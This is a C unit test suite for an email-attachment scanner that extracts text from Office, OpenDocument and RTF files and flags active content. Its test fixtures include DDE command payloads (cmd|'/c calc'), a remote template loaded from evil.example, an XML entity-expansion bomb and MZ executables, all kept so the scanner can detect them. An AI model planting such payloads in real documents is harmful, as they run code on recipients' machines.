/* SPDX-License-Identifier: Apache-2.0 */
/* Office files: their words, links, properties, and what runs in them. */
#include "attached.h"

#define TYPES { "[Content_Types].xml", "<Types/>" }
#define XML "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
#define RELATION "http://schemas.openxmlformats.org/officeDocument/2006/" \
	"relationships/"

static struct mail
document(struct given *given, const char *filename, const struct zip_file *files,
    size_t n)
{
	return mail_opened(given, "hello", "application/octet-stream",
	    filename, zip_make(given, files, n, NULL, NULL));
}
#define DOCUMENT(given, filename, files) \
	document(given, filename, files, sizeof (files) / sizeof *(files))

static void
words_of_a_document_and_its_corners_are_read(void **state)
{
	const struct zip_file files[] = { TYPES,
		{ "word/document.xml", XML "<w:document xmlns:w=\"w\"><w:body>"
		  "<w:p><w:r><w:t>振込先が</w:t></w:r><w:r><w:t>変わります"
		  "</w:t></w:r></w:p><w:p><w:t>a</w:t><w:tab/><w:t>b &lt; c"
		  "</w:t></w:p></w:body></w:document>" },
		{ "word/footnotes.xml", "<w:footnotes xmlns:w='w'><w:p><w:t>"
		  "foot</w:t></w:p></w:footnotes>" },
		{ "word/renamed.xml", "<w:hdr xmlns:w='w'><w:p><w:t>head"
		  "</w:t></w:p></w:hdr>" },
		{ "word/theme/theme1.xml", "<a:theme xmlns:a='a'><a:t>no"
		  "</a:t></a:theme>" } };
	struct mail mail = DOCUMENT(*state, "a.docx", files);

	assert_str(mail.attached.plain, "振込先が変わります\na\tb < c\nfoot\n"
	    "head\n");
	assert_str(mail.origins[0].name, "a.docx");
	assert_int_equal(mail.defects_n, 0);
	assert_int_equal(mail.documents_n, 1);
	assert_str(mail.documents[0].kind, "docx");
	assert_false(mail.parts[2].not_scanned);
}

static void
symbols_are_the_characters_of_their_numbers(void **state)
{
	static const struct { const char *element, *text; } rows[] = {
		{ "<w:sym w:font='Symbol' w:char='F031'/>", "a1b\n" },
		{ "<w:sym w:font='Arial' w:char='f020'/>", "a b\n" },
		{ "<w:sym w:font='Arial' w:char='F07E'/>", "a~b\n" },
		{ "<w:sym w:font='Arial' w:char='F07F'/>", "a b\n" },
		{ "<w:sym w:font='Wingdings' w:char='F04A'/>", "a b\n" },
		{ "<w:sym w:font='Arial' w:char='20AC'/>", "a€b\n" },
		{ "<w:sym w:font='Arial' w:char='D800'/>", "a b\n" },
		{ "<w:sym w:font='Arial' w:char='FFFFFF'/>", "a b\n" },
		{ "<w:sym w:font='Arial' w:char='1000031'/>", "ab\n" },
		{ "<w:sym w:font='Arial' w:char='x'/>", "ab\n" },
		{ "<w:sym/>", "ab\n" },
	};
	struct given *given = *state;

	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		struct str xml = str_format(given->arena, "<w:document "
		    "xmlns:w='w'><w:p><w:t>a</w:t>%s<w:t>b</w:t></w:p>"
		    "</w:document>", rows[i].element);
		const struct zip_file files[] = { TYPES,
			{ "word/document.xml", str_cstr(given->arena, xml),
			  0 } };
		struct mail mail = DOCUMENT(given, "a.docx", files);

		assert_str(mail.attached.plain, rows[i].text);
	}
}

static void
what_a_document_takes_in_is_read_as_what_it_is(void **state)
{
	static const struct {
		const char *path, *content, *target, *text;
	} rows[] = {
		{ "word/a.htm", "<html><body><p>pay<b>ment</b></html>", "x",
		  "payment" },
		{ "word/a.HTML", "pay<i></i>ment", "x", "payment" },
		{ "word/a.dat", "<p>pay<b>ment</b>", "/word/a.dat",
		  "payment" },
		{ "word/a.xml", "<html><p>pay<b>ment</b></p></html>", "a.xml",
		  "payment" },
		{ "word/a.mht", "From: <Saved by Word>\r\nMIME-Version: 1.0"
		  "\r\nContent-Type: text/html\r\n\r\npay<b>ment</b>",
		  "a.mht", "payment" },
		{ "word/a.bin", "pay the sum", "A.BIN", "pay the sum" },
		{ "word/a.dat", "{\\rtf1 pay{\\b ment}}", "a.dat", "payment" },
		{ "word/a.dat", "<p>pay<b>ment</b>", "b.dat", NULL },
	};
	struct given *given = *state;

	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		struct str relations = str_format(given->arena,
		    "<Relationships><Relationship Type=\"" RELATION "aFChunk\""
		    " Target=\"%s\"/></Relationships>", rows[i].target);
		const struct zip_file files[] = { TYPES,
			{ rows[i].path, rows[i].content, 0 },
			{ "word/document.xml", "<document/>", 0 },
			{ "word/_rels/document.xml.rels",
			  str_cstr(given->arena, relations), 0 } };
		struct mail mail = DOCUMENT(given, "a.docx", files);

		if (rows[i].text == NULL)
			assert_int_equal(mail.attached.plain.n, 0);
		else
			assert_true(attached_has(&mail, rows[i].text));
	}
}

static void
sixteen_files_are_taken_in_and_none_twice(void **state)
{
	struct given *given = *state;
	struct zip_file files[19] = { TYPES };
	struct buf relations = { .arena = given->arena };
	struct mail mail;

	buf_cstr(&relations, "<Relationships>");
	for (size_t i = 0; i < 17; i++) {
		files[i + 1] = (struct zip_file){ str_cstr(given->arena,
		    str_format(given->arena, "word/c%zu.dat", i)),
		    str_cstr(given->arena, str_format(given->arena,
		    "<p>chunk%zu.", i)), 0 };
		buf_format(&relations, "<Relationship Type='" RELATION
		    "aFChunk' Target='c%zu.dat'/>", i);
	}
	buf_cstr(&relations, "</Relationships>");
	files[18] = (struct zip_file){ "word/_rels/document.xml.rels",
	    str_cstr(given->arena, buf_str(&relations)), 0 };
	mail = DOCUMENT(given, "a.docx", files);
	assert_true(attached_has(&mail, "chunk15."));
	assert_false(attached_has(&mail, "chunk16."));
	assert_int_equal(mail.attached.plain.n, 10 * 8 + 6 * 9);
}

static void
properties_are_read(void **state)
{
	const struct zip_file files[] = { TYPES, { "word/document.xml",
		  "<document/>" },
		{ "docProps/core.xml", XML "<cp:coreProperties xmlns:cp='c' "
		  "xmlns:dc='d' xmlns:dcterms='t'><dc:title>請求書</dc:title>"
		  "<dc:creator>Taro</dc:creator><cp:lastModifiedBy>Mallory"
		  "</cp:lastModifiedBy><dcterms:created>2026-01-02T03:04:05Z"
		  "</dcterms:created></cp:coreProperties>" },
		{ "docProps/app.xml", "<Properties><Application>Microsoft "
		  "Office Word</Application></Properties>" } };
	struct mail mail = DOCUMENT(*state, "a.docx", files);
	const struct document *it = &mail.documents[0];

	assert_str(it->author, "Taro");
	assert_str(it->creator, "Mallory");
	assert_str(it->title, "請求書");
	assert_str(it->producer, "Microsoft Office Word");
	assert_int_equal(it->created, time_of_civil(2026, 1, 2, 3, 4, 5));
	assert_int_equal(it->modified, MAIL_NO_DATE);
}

static void
rows_of_a_sheet_become_lines(void **state)
{
	const struct zip_file files[] = { TYPES,
		{ "xl/workbook.xml", "<workbook/>" },
		{ "xl/worksheets/sheet1.xml", "<worksheet><sheetData>"
		  "<row><c t=\"s\"><v>1</v></c><c t=\"s\"><v>0</v></c></row>"
		  "<row><c t=\"inlineStr\"><is><t>in line</t></is></c>"
		  "<c><v>1250000</v></c><c s=\"1\"><v>46023</v></c>"
		  "<c s=\"2\"><v>46024.5</v></c><c t=\"s\"><v>99</v></c></row>"
		  "<row/></sheetData></worksheet>" },
		{ "xl/sharedStrings.xml", "<sst><si><t>振込先</t><rPh><t>"
		  "フリコミ</t></rPh></si><si><r><t>月末</t></r><r><t>締め"
		  "</t></r></si></sst>" },
		{ "xl/styles.xml", "<styleSheet><numFmts><numFmt numFmtId=\"176\""
		  " formatCode=\"yyyy&quot;年&quot;\"/></numFmts><cellStyleXfs>"
		  "<xf numFmtId=\"14\"/></cellStyleXfs><cellXfs><xf "
		  "numFmtId=\"0\"/><xf numFmtId=\"14\"/><xf numFmtId=\"176\"/>"
		  "</cellXfs></styleSheet>" } };
	struct mail mail = DOCUMENT(*state, "a.xlsx", files);

	assert_str(mail.attached.plain, "月末締め\t振込先\n"
	    "in line\t1250000\t2026-01-01\t2026-01-02\t\n");
	assert_int_equal(mail.defects_n, 0);
}

static void
slides_and_notes_are_read(void **state)
{
	const struct zip_file files[] = { TYPES,
		{ "ppt/slides/slide1.xml", "<p:sld xmlns:p='p' xmlns:a='a'>"
		  "<a:p><a:t>slide</a:t></a:p></p:sld>" },
		{ "ppt/notesSlides/n.xml", "<p:notes xmlns:p='p' xmlns:a='a'>"
		  "<a:p><a:t>note</a:t></a:p></p:notes>" } };
	struct mail mail = DOCUMENT(*state, "a.pptx", files);

	assert_str(mail.attached.plain, "slide\nnote\n");
	assert_str(mail.documents[0].kind, "pptx");
}

static void
open_document_text_is_read(void **state)
{
	const struct zip_file files[] = {
		{ "META-INF/manifest.xml", "<manifest/>" },
		{ "content.xml", "<o:document-content xmlns:o='o' xmlns:t='t' "
		  "xmlns:x='x'><t:p>one<t:note><t:p>inner</t:p></t:note> two"
		  "<t:a x:href='https://open.example/'>link</t:a></t:p>"
		  "</o:document-content>" },
		{ "meta.xml", "<o:document-meta xmlns:o='o' xmlns:m='m'>"
		  "<m:generator>LibreOffice</m:generator><m:creation-date>"
		  "2026-01-02T03:04:05.123456789</m:creation-date>"
		  "</o:document-meta>" } };
	struct mail mail = DOCUMENT(*state, "a.odt", files);

	assert_str(mail.attached.plain, "oneinner\n twolink\n");
	assert_true(links_to(&mail, "https://open.example/", LINK_DOCUMENT));
	assert_str(mail.documents[0].producer, "LibreOffice");
	assert_int_equal(mail.documents[0].created,
	    time_of_civil(2026, 1, 2, 3, 4, 5));
}

static void
links_stand_in_relations_and_instructions(void **state)
{
	const struct zip_file files[] = { TYPES,
		{ "word/document.xml", "<document><instrText> HYPERLINK "
		  "\"https://two.ex</instrText><instrText>ample/\" "
		  "</instrText></document>" },
		{ "word/_rels/document.xml.rels", "<Relationships>"
		  "<Relationship Type=\"" RELATION "hyperlink\" Target="
		  "\"https://one.example/pay?a=1&amp;b=2\" TargetMode="
		  "\"External\"/></Relationships>" } };
	struct mail mail = DOCUMENT(*state, "a.docx", files);

	assert_true(links_to(&mail, "https://one.example/pay?a=1&b=2",
	    LINK_DOCUMENT));
	assert_true(links_to(&mail, "https://two.example/", LINK_DOCUMENT));
	assert_true(mail.documents[0].has_links);
	assert_int_equal(defects_of(&mail, DEFECT_ACTIVE_CONTENT), 0);
}

static void
what_runs_or_loads_is_told(void **state)
{
	static const struct {
		struct zip_file file;
		const char *what;
	} rows[] = {
		{ { "word/vbaProject.bin", "x" }, "a.docm: macros" },
		{ { "word/embeddings/oleObject1.bin", "x" },
		  "a.docm: embedded objects" },
		{ { "word/activeX/activeX1.xml", "<x/>" },
		  "a.docm: ActiveX controls" },
		{ { "xl/macrosheets/m.xml", "<xm:macrosheet xmlns:xm='x'/>" },
		  "a.docm: macros" },
		{ { "word/_rels/settings.xml.rels", "<Relationships>"
		  "<Relationship Type=\"" RELATION "attachedTemplate\" "
		  "Target=\"https://evil.example/t.dotm\" TargetMode="
		  "\"External\"/></Relationships>" },
		  "a.docm: external template" },
		{ { "word/document.xml", "<document><instrText>DDEAUTO c:\\\\x"
		  "</instrText></document>" }, "a.docm: DDE" },
		{ { "xl/worksheets/s.xml", "<worksheet><c><f>cmd|'/c calc'!A1"
		  "</f></c></worksheet>" }, "a.docm: DDE" },
		{ { "xl/externalLinks/externalLink1.xml", "<externalLink>"
		  "<ddeLink ddeService='cmd' ddeTopic='/c calc'/>"
		  "</externalLink>" }, "a.docm: DDE" },
		{ { "setup.exe", "MZ" }, "a.docm > setup.exe: program" },
	};

	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		const struct zip_file files[] = { TYPES, rows[i].file };
		struct mail mail = DOCUMENT(*state, "a.docm", files);
		if (!has_evidence(&mail, DEFECT_ACTIVE_CONTENT, rows[i].what))
			print_error("%s\n", rows[i].what);
		assert_true(has_evidence(&mail, DEFECT_ACTIVE_CONTENT,
		    rows[i].what));
	}
}

static void
entities_are_refused(void **state)
{
	const struct zip_file files[] = { TYPES,
		{ "word/document.xml", "<!DOCTYPE d [<!ENTITY a \"aaaaaaaaaa\">"
		  "<!ENTITY b \"&a;&a;&a;\">]><document><t>&b;</t></document>" } };
	struct mail mail = DOCUMENT(*state, "a.docx", files);

	assert_str(mail.attached.plain, "");
	assert_str(mail.parts[2].not_scanned_why, "damaged");
}

static void
depth_stops_at_its_limit(void **state)
{
	struct given *given = *state;

	for (size_t depth = 199; depth <= 200; depth++) {
		struct buf xml = { .arena = given->arena };
		struct mail mail;
		buf_cstr(&xml, "<document>");
		for (size_t i = 1; i < depth; i++)
			buf_cstr(&xml, "<p>");
		buf_cstr(&xml, "<t>deep</t>");
		for (size_t i = 1; i < depth; i++)
			buf_cstr(&xml, "</p>");
		buf_cstr(&xml, "</document>");
		{
			const struct zip_file files[] = { TYPES,
				{ "word/document.xml", xml.p, xml.n } };
			mail = DOCUMENT(given, "a.docx", files);
		}
		assert_int_equal(attached_has(&mail, "deep"), depth == 199);
		assert_int_equal(mail.parts[2].not_scanned, depth == 200);
	}
}

static void
a_word_that_is_referred_to_often_stops_at_the_text_limit(void **state)
{
	struct given *given = *state;
	struct buf words = { .arena = given->arena };
	struct buf cells = { .arena = given->arena };
	struct limits limits = limits_default;
	struct attached file = { "application/octet-stream", "a.xlsx" };
	struct mail mail;

	buf_cstr(&words, "<sst><si><t>");
	for (size_t i = 0; i < 10000; i++)
		buf_cstr(&words, "xxxxxxxxxx");
	buf_cstr(&words, "</t></si></sst>");
	buf_cstr(&cells, "<worksheet><row>");
	for (size_t i = 0; i < 10000; i++)
		buf_cstr(&cells, "<c t='s'><v>0</v></c>");
	buf_cstr(&cells, "</row></worksheet>");
	{
		const struct zip_file files[] = { TYPES,
			{ "xl/sharedStrings.xml", words.p, words.n },
			{ "xl/worksheets/s.xml", cells.p, cells.n } };
		file.content = ZIP(given, files);
	}
	limits.text_bytes = 300000;
	mail = mail_carrying(given, "hello", &file, 1);
	attachments_read(given->arena, &limits, NULL, &mail);
	assert_true(mail.attached.plain.n <= 300001);
	assert_int_equal(defects_of(&mail, DEFECT_TEXT_LIMIT), 1);
}

static void
one_file_more_does_not_make_an_archive_a_document(void **state)
{
	const struct zip_file files[] = { TYPES, { "pay.exe", "MZ" },
		{ "note.txt", "hidden in the archive" } };
	struct mail mail = DOCUMENT(*state, "a.zip", files);

	assert_true(has_evidence(&mail, DEFECT_ACTIVE_CONTENT, "pay.exe"));
	assert_true(attached_has(&mail, "hidden in the archive"));
}

static void
a_cut_document_keeps_its_words_and_is_damaged(void **state)
{
	const struct zip_file files[] = { TYPES, { "word/document.xml",
		"<document><t>words</t>" } };
	struct mail mail = DOCUMENT(*state, "a.docx", files);

	assert_true(attached_has(&mail, "words"));
	assert_str(mail.parts[2].not_scanned_why, "damaged");
}

static void
locked_and_old_files_are_named(void **state)
{
	static const struct {
		const char *content;
		size_t n;
		const char *why;
		enum defect_kind kind;
	} rows[] = {
#define OLE "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
#define ROW(bytes, why, kind) { OLE bytes, sizeof(OLE bytes) - 1, why, kind }
		ROW("E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0",
		    "encrypted", DEFECT_ARCHIVE_ENCRYPTED),
		ROW("_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0", "old Office file",
		    DEFECT_ACTIVE_CONTENT),
		ROW("plain", "old Office file", DEFECT_NOT_SCANNED),
	};

	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		struct mail mail = mail_opened(*state, "hello",
		    "application/msword", "a.doc", given_bytes(*state,
		    rows[i].content, rows[i].n));
		assert_str(mail.parts[2].not_scanned_why, rows[i].why);
		assert_int_equal(defects_of(&mail, rows[i].kind), 1);
	}
}

static void
rtf_is_read_and_its_objects_told(void **state)
{
	struct mail mail = mail_opened(*state, "hello", "application/rtf",
	    "a.rtf", given_text(*state, "{\\rtf1\\ansi Please pay"
	    "{\\object{\\*\\objdata 0105}}}"));

	assert_true(attached_has(&mail, "Please pay"));
	assert_true(has_evidence(&mail, DEFECT_ACTIVE_CONTENT,
	    "a.rtf: embedded objects"));
	assert_false(mail.parts[2].not_scanned);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(words_of_a_document_and_its_corners_are_read),
		TEST(symbols_are_the_characters_of_their_numbers),
		TEST(what_a_document_takes_in_is_read_as_what_it_is),
		TEST(sixteen_files_are_taken_in_and_none_twice),
		TEST(properties_are_read),
		TEST(rows_of_a_sheet_become_lines),
		TEST(slides_and_notes_are_read),
		TEST(open_document_text_is_read),
		TEST(links_stand_in_relations_and_instructions),
		TEST(what_runs_or_loads_is_told),
		TEST(entities_are_refused),
		TEST(depth_stops_at_its_limit),
		TEST(a_word_that_is_referred_to_often_stops_at_the_text_limit),
		TEST(one_file_more_does_not_make_an_archive_a_document),
		TEST(a_cut_document_keeps_its_words_and_is_damaged),
		TEST(locked_and_old_files_are_named),
		TEST(rtf_is_read_and_its_objects_told),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
